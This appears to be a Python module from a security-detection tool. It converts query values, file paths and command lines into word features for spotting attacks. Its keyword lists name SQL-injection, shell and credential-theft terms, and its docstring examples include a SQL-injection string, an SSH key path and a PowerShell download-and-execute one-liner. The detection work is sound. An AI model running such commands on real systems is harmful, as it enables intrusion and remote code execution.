"""Free text that an attacker may control, as words: commands, query values, paths.

Owns the words for signs that mean something in an attack (quotes, comments, traversal, pipes) and the shapes of
harmless values. Called by the readers.
"""
from __future__ import annotations

import re
from functools import lru_cache
from typing import List

from ..decode import abridged
from ..redact import SECRET, host_words, is_secret_name, redact, split_words, words_of_token

_SIGNS = {
    "'": "quote", '"': "doublequote", "`": "backtick", ";": "semicolon", "|": "pipe", "||": "pipe or",
    "&&": "and then", "&": "ampersand",
    "<": "less", ">": "greater", ">>": "append", "(": "paren", "{": "brace", "[": "bracket", "=": "equals",
    "==": "equals", "$": "dollar",
    "$(": "subshell", "${": "expansion", "../": "traversal", "..\\": "traversal", "./.": "traversal", "--": "comment",
    "/*": "comment",
    "*/": "", "#": "sharp", "*": "star", "@@": "variable", "!": "bang", "<!": "less bang", "</": "less slash",
    "<?": "less script",
    "?>": "greater", "\\": "backslash", "%": "percent", "<%": "less script", "{{": "template", "}}": "",
    "\n": "newline", "//": "slashes", "^": "caret",
    "://": "url", "\ufffd": "broken",
}
_PIECE = re.compile(r"[A-Za-z_][\w]*|[0-9]+(?:\.[0-9]+)*|\.\./|\.\.\\|\./\.|\|\||&&|>>|==|\$\(|\$\{|--+|/\*|\*/|@@|"
                    r"<[!/?%]|\?>|\{\{|\}\}|://|//|"
                    r"[^\w\s.,:/?+)\]}~-]|\n|[^\W\d_]+")
_LONG_RUN = 40

#: The words of a value that a harmless one rarely holds: kept as they are instead of a shape.
_TELLING = re.compile(
    r"(?i)\b(?:select|union|insert|update|delete|drop|exec|execute|declare|cast|char|chr|concat|sleep|benchmark|"
    r"waitfor|having|order|"
    r"information_schema|sysobjects|xp_cmdshell|script|javascript|vbscript|alert|onerror|onload|iframe|svg|document|"
    r"cookie|eval|passwd|"
    r"shadow|etc|proc|environ|boot|win|ini|cmd|command|shell|bash|whoami|uname|id|cat|ls|dir|ping|wget|curl|"
    r"nslookup|phpinfo|system|passthru|base64|"
    r"include|jndi|ldap|rmi|file|php|data|gopher|admin|root|null|true|false|or|and|not|like|from|where|table|"
    r"version|user|dbms\w*|pg_sleep|"
    r"set|bcc|cc|content|subject|location|exe|htaccess|inf|bak|old|inc|web)\b")
_PLAIN = re.compile(r"[\w .,:@áéíóúñÁÉÍÓÚÑäöüßçàèìòùâêîôû/()ºª'+-]*")
_MAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
_NUMERIC = re.compile(r"[+-]?[0-9]+(?:[ .,:/-][0-9]+)*")
#: O'Brien and L'Hospitalet are names, concor'di is not.
_NAME_QUOTE = re.compile(r"(?:^|[\s-])\w{1,2}'[^\W\d]|[^\W\d]'(?:s\b|\s|$)")
_ODD_END = re.compile(r"[/:@(+=-]$|[-_/:.@+]{2}|^[/:@)+]")
_IDENTIFIER = re.compile(r"[\w.-]*[0-9][\w.-]*")


def sign_words(text: str, max_words: int = 120) -> str:
    """`text` piece by piece: words as they are, numbers as `num`, signs by name.

    >>> sign_words("1' OR 1=1--")
    'num quote or num equals num comment'
    """
    words: List[str] = []
    last = ""
    for piece in _PIECE.findall(text):
        first = piece[0]
        if first.isdigit():
            word = "num"
        elif first.isalpha() or first == "_":
            word = _word(piece)
        elif piece.startswith("--"):
            word = "comment"
        else:
            word = _SIGNS.get(piece, "sign")
        if word and word != last:
            words.append(word)
            last = word
            if len(words) >= max_words:
                break
    return " ".join(words)


@lru_cache(maxsize=1 << 13)
def _word(piece: str) -> str:
    if len(piece) > _LONG_RUN:
        return "longrun"
    return piece.lower() if piece.islower() or piece.isupper() else split_words(piece)


#: Where whole numbers of 16, 32 and 64 bits end: who sends one wants to see what breaks.
_LIMITS = frozenset(str(limit) for bits in (15, 16, 31, 32, 63, 64) for limit in (2 ** bits - 1, 2 ** bits))


def value_words(name: str, value: str) -> str:
    """What a query value is: a shape where it looks harmless, its words and signs where it does not.

    >>> value_words("id", "42"), value_words("city", "San Juan"), value_words("pwd", "hunter2")
    ('num', 'plain', 'secret')
    >>> value_words("amount", "-3"), value_words("id", "2147483648")
    ('negative num', 'limit num')
    >>> value_words("id", "1 or 1=1")
    'num or num equals num'
    """
    if not value:
        return "empty"
    if len(value) > 8 and len(set(value)) <= 2:
        return "repeat"
    if is_secret_name(name) and _PLAIN.fullmatch(value) and not set(value) & set(" '/("):
        return SECRET
    if _NUMERIC.fullmatch(value):
        return " ".join(filter(None, ("negative" if value[0] == "-" else "", "limit" if value.lstrip("-+") in _LIMITS else "", "num" if len(value) <= 12 else "longnum")))
    if _TELLING.search(value) or not _PLAIN.fullmatch(value) or ".." in value or "--" in value:
        return sign_words(value)
    if _MAIL.fullmatch(value):
        return "email"
    if ("'" in value and not _NAME_QUOTE.search(value)) or _ODD_END.search(value):
        return f"oddmark {sign_words(value)}"
    if _IDENTIFIER.fullmatch(value):
        return "mixed"
    return "longtext" if len(value) > 80 else "plain"


# -- paths ---------------------------------------------------------------------------------------

_HOMES = frozenset(("users", "home", "documents and settings"))
_SHARED_HOMES = frozenset(("public", "default", "all users", "administrator"))
_RANDOM_NAME = re.compile(r"(?=[^0-9]*[0-9])(?=[^a-z]*[a-z])[a-z0-9]{10,}|[0-9a-f-]{16,}|\{[0-9a-fA-F-]{36}\}")


@lru_cache(maxsize=1 << 14)
def path_words(path: str) -> str:
    r"""A file's path as words: who owns a home directory is dropped, ids in it are masked.

    >>> path_words("C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe"), path_words("/home/bob/.ssh/id_rsa")
    ('users app data local temp x exe', 'home ssh id rsa')
    """
    words: List[str] = []
    steps = re.split(r"[\\/]+", path[:512].strip("\"' "))
    owner = False
    for step in steps:
        lower = step.lower()
        if owner:
            owner = False
            if lower not in _SHARED_HOMES:
                continue
        if not step or (len(step) == 2 and step[1] == ":") or step in (".", "?", "??"):
            continue
        owner = lower in _HOMES
        if lower.startswith("harddiskvolume") or lower == "device":
            continue
        if lower.startswith("s-1-5-"):
            words.append("sid")
        elif "_" in step and len(step) > 40:
            words.append(split_words(step.partition("_")[0]))
        else:
            words.append("randomname" if _RANDOM_NAME.fullmatch(lower) else split_words(step))
    return " ".join(filter(None, words))


def base_name(path: str) -> str:
    """The last step of a path, lower-case."""
    return re.split(r"[\\/]", path.strip("\"' "))[-1].lower()[:128]


# -- commands ------------------------------------------------------------------------------------

_COMMAND_TOKEN = re.compile(r"\"[^\"\n]{1,400}\"|'[^'\n]{1,400}'|[^\s\"'|&;<>()`,=]+|\|\||&&|>>|[|&;<>`]|\$\(|=")
_COMMAND_SIGNS = {"|": "pipe", "||": "or else", "&&": "and then", "&": "ampersand", ";": "then", ">": "redirect",
                  ">>": "append", "<": "input",
                  "`": "backtick", "$(": "subshell"}


def command_words(text: str, max_chars: int = 1_200) -> str:
    """A decoded command line or script as words.

    >>> command_words("powershell.exe -w hidden (New-Object Net.WebClient).DownloadString('http://8.8.8.8/a') | iex")
    'powershell exe w hidden new object net web client download string http url publicip a pipe iex'
    """
    words: List[str] = []
    for token in _COMMAND_TOKEN.findall(redact(abridged(text, max_chars))):
        sign = _COMMAND_SIGNS.get(token)
        words.append(sign if sign is not None else _command_token(token))
    return " ".join(filter(None, words))


@lru_cache(maxsize=1 << 15)
def _command_token(token: str) -> str:
    if token[0] in "\"'":
        inner = token[1:-1]
        if " " in inner.strip() and not re.match(r"[A-Za-z]:\\|/|\\\\", inner):
            # Quotes inside of quotes hold a command again; theirs is the other sign, so that this ends.
            return " ".join(filter(None, (_command_token(part) for part in _COMMAND_TOKEN.findall(inner))))
        token = inner.strip()
    if not token:
        return ""
    if "://" in token:
        return words_of_token(token)
    if token.startswith("\\\\") and len(token) > 3:
        host, _, rest = token[2:].partition("\\")
        return f"share {host_words(host) if host not in ('.', '?', '*') else 'local'} {path_words(rest)}".rstrip()
    if token.startswith("/dev/tcp/"):
        return "dev tcp " + words_of_token(token[9:].partition("/")[0])
    if ("\\" in token or token[0] in "/~." or token.count("/") > 1) and len(token) > 2:
        return path_words(token)
    return words_of_token(token)
